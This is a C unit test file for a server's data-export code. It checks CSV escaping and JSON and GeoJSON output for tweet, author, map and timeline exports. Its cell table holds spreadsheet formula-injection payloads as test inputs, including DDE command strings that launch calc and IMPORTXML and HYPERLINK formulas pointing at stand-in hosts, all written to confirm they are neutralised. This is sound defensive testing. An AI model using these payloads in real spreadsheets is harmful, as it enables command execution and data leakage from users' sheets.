/* SPDX-License-Identifier: MIT */
/* Answers as files: no cell of a sheet becomes a formula, and nothing is lost. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "server/base/csv.h"
#include "server/base/json_walk.h"
#include "server/rest/export.h"
#include "tests/support/fail_alloc.h"

/* ---- Cells ---- */

static const char *const cells[][2] = {
    {"", ""},
    {"plain", "plain"},
    {"two words", "two words"},
    {"=1+1", "\"'=1+1\""},
    {"=", "\"'=\""},
    {"=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""},
    {"=HYPERLINK(\"http://evil\",\"x\")", "\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\""},
    {"=IMPORTXML(CONCAT(\"http://e\",A1),\"//a\")",
     "\"'=IMPORTXML(CONCAT(\"\"http://e\"\",A1),\"\"//a\"\")\""},
    {"=DDE(\"cmd\";\"/C calc\";\"x\")", "\"'=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\""},
    {"=1+1\";=1+1", "\"'=1+1\"\";=1+1\""},
    {"=1+1';=1+1", "\"'=1+1';=1+1\""},
    {"+1", "\"'+1\""},
    {"+", "\"'+\""},
    {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
    {"+49 30 1234", "\"'+49 30 1234\""},
    {"-1", "\"'-1\""},
    {"-", "\"'-\""},
    {"-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""},
    {"- a list", "\"'- a list\""},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
    {"@ada hello", "\"'@ada hello\""},
    {"@", "\"'@\""},
    {"\t=1+1", "\"'\t=1+1\""},
    {"\t", "\"'\t\""},
    {"\r=1+1", "\"'\r=1+1\""},
    {"\r", "\"'\r\""},
    {"\n=1+1", "\"'\n=1+1\""},
    {"\r\n=1+1", "\"'\r\n=1+1\""},
    {"\xEF\xBC\x9D"
     "1+1",
     "\"'\xEF\xBC\x9D"
     "1+1\""},
    {"\xEF\xBC\x8B"
     "1",
     "\"'\xEF\xBC\x8B"
     "1\""},
    {"\xEF\xBC\x8D"
     "1",
     "\"'\xEF\xBC\x8D"
     "1\""},
    {"\xEF\xBC\xA0"
     "A1",
     "\"'\xEF\xBC\xA0"
     "A1\""},
    {"a,=1+1", "\"a,=1+1\""},
    {"a\n=1+1", "\"a\n=1+1\""},
    {"a\r\n=1+1,b", "\"a\r\n=1+1,b\""},
    {"a\",=1+1", "\"a\"\",=1+1\""},
    {"\",=1+1", "\"\"\",=1+1\""},
    {"\"", "\"\"\"\""},
    {"\"\"", "\"\"\"\"\"\""},
    {"\"=1+1\"", "\"\"\"=1+1\"\"\""},
    {";=1+1", "\";=1+1\""},
    {"a;=1+1", "\"a;=1+1\""},
    {"a\t=1+1", "\"a\t=1+1\""},
    {"'=1+1", "\"'=1+1\""},
    {" =1+1", "\" =1+1\""},
    {"a ", "\"a \""},
    {",", "\",\""},
    {"1=1", "1=1"},
    {"a+b-c@d", "a+b-c@d"},
    {"caf\xC3\xA9 \xF0\x9F\x98\x80", "caf\xC3\xA9 \xF0\x9F\x98\x80"},
    {"0x=", "0x="},
    {"|calc", "|calc"},
    {"%0A=1", "%0A=1"},
};
enum { CELL_COUNT = sizeof cells / sizeof cells[0] };

static void no_cell_becomes_a_formula(void **state) {
    (void)state;
    assert_true(CELL_COUNT >= 50);
    for (size_t i = 0; i < CELL_COUNT; i++) {
        buffer b = {0};
        csv_writer w = csv_to(&b);
        csv_put_text(&w, text_of(cells[i][0]));
        csv_put_text(&w, TEXT("next"));
        csv_end_row(&w);
        text cell = text_slice(buffer_text(&b), 0, b.count - 7); /* ",next\r\n" */
        if (!text_equal(cell, text_of(cells[i][1])))
            print_error("%s: %.*s\n", cells[i][0], (int)cell.count, cell.bytes);
        assert_true(text_equal(cell, text_of(cells[i][1])));
        buffer_deinit(&b);
    }
}

static void values_of_json_are_cells(void **state) {
    static const char *const cases[][2] = {
        {"null", ""},
        {"true", "true"},
        {"-0.5", "-0.5"},
        {"\"-0.5\"", "\"'-0.5\""},
        {"\"a\\u000ab\"", "\"a\nb\""},
        {"[\"a\",\"=b\"]", "\"[\"\"a\"\",\"\"=b\"\"]\""},
        {"\"\\u003db\"", "\"'=b\""},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        buffer b = {0};
        csv_writer w = csv_to(&b);
        csv_put_json(&w, text_of(cases[i][0]));
        assert_true(text_equal(buffer_text(&b), text_of(cases[i][1])));
        buffer_deinit(&b);
    }
}

/* ---- Choosing ---- */

static void a_choice_leaves_the_other_parameters(void **state) {
    buffer rest = {0};
    export_choice c;
    param_errors e = {0};
    (void)state;
    assert_true(
        export_choose(TEXT("lang=en&what=map&format=geojson&a=%3D"), EXPORT_CSV, &c, &rest, &e));
    assert_string_equal(c.kind->name, "map");
    assert_int_equal(c.format, EXPORT_GEOJSON);
    assert_false(c.has_limit);
    assert_true(text_equal(buffer_text(&rest), TEXT("lang=en&a=%3D&")));
    buffer_clear(&rest);
    assert_true(export_choose(TEXT("what=tweets&limit=3"), EXPORT_JSONL, &c, &rest, &e));
    assert_true(c.format == EXPORT_JSONL && c.has_limit);
    buffer_deinit(&rest);
}

static void a_wrong_choice_is_explained(void **state) {
    static const char *const cases[][3] = {
        {"", "what", "missing; tweets, authors, map, ..."},
        {"what=", "what",
         "unknown; use tweets, authors, places, origins, hashtags, links, languages, map or "
         "timeline"},
        {"what=autors", "what", "unknown; did you mean authors?"},
        {"what=map&what=map", "what", "given twice"},
        {"what=map&format=cvs", "format", "unknown; did you mean csv?"},
        {"what=map&format=csv&format=csv", "format", "given twice"},
        {"what=tweets&format=geojson", "format", "geojson is for authors, places and map"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        buffer rest = {0};
        export_choice c;
        param_errors e = {0};
        assert_false(export_choose(text_of(cases[i][0]), EXPORT_CSV, &c, &rest, &e));
        assert_string_equal(e.errors[0].parameter, cases[i][1]);
        assert_string_equal(e.errors[0].detail, cases[i][2]);
        buffer_deinit(&rest);
    }
}

/* ---- Whole files ---- */

static const export_kind *kind_of(const char *name) {
    size_t i = 0;
    while (strcmp(export_kinds[i].name, name) != 0) i++;
    return &export_kinds[i];
}

static void expect_file(const char *name, export_format format, const char *answer,
                        const char *expected) {
    buffer b = {0};
    export_write(&(export_choice){.kind = kind_of(name), .format = format}, text_of(answer), &b);
    buffer_add_byte(&b, '\0');
    assert_string_equal(b.bytes, expected);
    buffer_deinit(&b);
}

static const char some_minutes[] =
    "{\"data\":[{\"minute\":\"2012-07-04T00:00:00.000Z\",\"tweets\":2,\"retweets\":1,\"replies\":0,"
    "\"quotes\":0,\"positive\":1,\"neutral\":0,\"negative\":0,\"unknown\":1}]}";
static const char some_map[] = "{\"data\":{\"id\":[\"1\",\"2\"],\"lat\":[515000,-1],\"lon\":"
                               "[-1200,5],\"influence\":[12500,1],\"responses\":[3,4],"
                               "\"received_n\":[4,0],\"received_mean\":[310,null],"
                               "\"username\":[\"ada\",\"b\"],\"place\":[\"London\",\"-\"]}}";
static const char some_tweets[] =
    "{\"data\":[{\"id\":\"7\",\"author_id\":\"12\",\"created_at\":\"t\",\"text\":\"=x\",\"kind\":"
    "\"retweet\",\"reference_id\":\"6\",\"lang\":\"en\",\"sentiment\":null,\"responses\":9,"
    "\"retweets\":5,\"replies\":3,\"quotes\":1,\"influence\":12.5}],\"includes\":{\"users\":["
    "{\"id\":\"12\",\"username\":\"ada\",\"name\":\"Ada\",\"location\":\"London\",\"followers\":"
    "1200}]}}";

static void a_table_has_a_line_of_names(void **state) {
    (void)state;
    expect_file("timeline", EXPORT_CSV, some_minutes,
                "minute,tweets,retweets,replies,quotes,positive,neutral,negative,unknown\r\n"
                "2012-07-04T00:00:00.000Z,2,1,0,0,1,0,0,1\r\n");
    expect_file("timeline", EXPORT_CSV, "{\"data\":[]}",
                "minute,tweets,retweets,replies,quotes,positive,neutral,negative,unknown\r\n");
}

static void the_map_comes_in_rows_and_degrees(void **state) {
    (void)state;
    expect_file("map", EXPORT_CSV, some_map,
                "id,username,place,lat,lon,influence,responses,received_n,received_mean\r\n"
                "1,ada,London,51.5,-0.12,12.5,3,4,0.31\r\n"
                "2,b,\"'-\",-0.0001,0.0005,0.001,4,0,\r\n");
    expect_file("map", EXPORT_JSONL, "{\"data\":{\"id\":[\"1\"],\"lat\":[515000]}}",
                "{\"id\":\"1\",\"lat\":51.5}\n");
    expect_file("map", EXPORT_JSONL, "{\"data\":{}}", "");
}

static void what_has_a_place_is_a_feature(void **state) {
    (void)state;
    expect_file("authors", EXPORT_GEOJSON,
                "{\"data\":[{\"id\":\"1\",\"place\":{\"lat\":51.5,\"lon\":-0.12}},{\"id\":\"2\","
                "\"place\":null}]}",
                "{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"geometry\":{"
                "\"type\":\"Point\",\"coordinates\":[-0.12,51.5]},\"properties\":{\"id\":\"1\","
                "\"place\":{\"lat\":51.5,\"lon\":-0.12}}}]}\n");
}

static void tweets_are_pages_of_v2(void **state) {
    (void)state;
    expect_file(
        "tweets", EXPORT_JSONL, some_tweets,
        "{\"data\":[{\"id\":\"7\",\"author_id\":\"12\",\"created_at\":\"t\",\"text\":\"=x\","
        "\"lang\":\"en\",\"referenced_tweets\":[{\"type\":\"retweeted\",\"id\":\"6\"}],"
        "\"public_metrics\":{\"retweet_count\":5,\"reply_count\":3,\"quote_count\":1}}],"
        "\"includes\":{\"users\":[{\"id\":\"12\",\"username\":\"ada\",\"name\":\"Ada\","
        "\"location\":\"London\",\"public_metrics\":{\"followers_count\":1200}}]},"
        "\"meta\":{\"result_count\":1},\"dunlin\":[{\"id\":\"7\",\"responses\":9,"
        "\"influence\":12.5}]}\n");
    expect_file("tweets", EXPORT_JSONL, "{\"data\":[]}", "");
}

/* 250 tweets by three authors: three pages, each with the authors that it needs. */
static void each_page_brings_its_authors(void **state) {
    buffer answer = {0}, b = {0};
    (void)state;
    buffer_add(&answer, TEXT("{\"data\":["));
    for (unsigned i = 0; i < 250; i++)
        buffer_add_format(&answer, "%s{\"id\":\"%u\",\"author_id\":\"%u\"}", i == 0 ? "" : ",", i,
                          i < 100 ? 1u : i % 2 + 2);
    buffer_add(&answer,
               TEXT("],\"includes\":{\"users\":[{\"id\":\"3\"},{\"id\":\"1\"},{\"id\":\"2\"}"
                    "]}}"));
    export_write(&(export_choice){.kind = kind_of("tweets"), .format = EXPORT_JSONL},
                 buffer_text(&answer), &b);
    static const size_t users[] = {1, 2, 2}, tweets[] = {100, 100, 50};
    text rest = buffer_text(&b), page, list;
    for (size_t i = 0, end; i < 3; i++, rest = text_slice(rest, end + 1, rest.count)) {
        assert_true(text_find_byte(rest, '\n', &end));
        assert_true(json_walk_whole(text_slice(rest, 0, end), &page));
        size_t count = 0;
        assert_true(json_walk_find(page, "includes.users", &list));
        for (json_walk w = {.container = list}; json_walk_next(&w);) count++;
        assert_int_equal(count, users[i]);
        count = 0;
        assert_true(json_walk_find(page, "data", &list));
        for (json_walk w = {.container = list}; json_walk_next(&w);) count++;
        assert_int_equal(count, tweets[i]);
    }
    assert_int_equal(rest.count, 0);
    buffer_deinit(&answer);
    buffer_deinit(&b);
}

static status write_all(void *context) {
    static const char *const names[] = {"tweets", "map", "timeline", "map"};
    static const char *const answers[] = {some_tweets, some_map, some_minutes, some_map};
    static const export_format formats[] = {EXPORT_JSONL, EXPORT_CSV, EXPORT_CSV, EXPORT_GEOJSON};
    bool good = true;
    (void)context;
    for (size_t i = 0; i < 4; i++) {
        buffer b = {0};
        export_write(&(export_choice){.kind = kind_of(names[i]), .format = formats[i]},
                     text_of(answers[i]), &b);
        good = good && !b.failed;
        buffer_deinit(&b);
    }
    return good ? STATUS_OK : STATUS_NO_MEMORY;
}

static void exports_survive_every_failed_allocation(void **state) {
    (void)state;
    assert_in_range(torture(write_all, NULL, 1000), 8, 1000);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(no_cell_becomes_a_formula),
        cmocka_unit_test(values_of_json_are_cells),
        cmocka_unit_test(a_choice_leaves_the_other_parameters),
        cmocka_unit_test(a_wrong_choice_is_explained),
        cmocka_unit_test(a_table_has_a_line_of_names),
        cmocka_unit_test(the_map_comes_in_rows_and_degrees),
        cmocka_unit_test(what_has_a_place_is_a_feature),
        cmocka_unit_test(tweets_are_pages_of_v2),
        cmocka_unit_test(each_page_brings_its_authors),
        cmocka_unit_test(exports_survive_every_failed_allocation),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
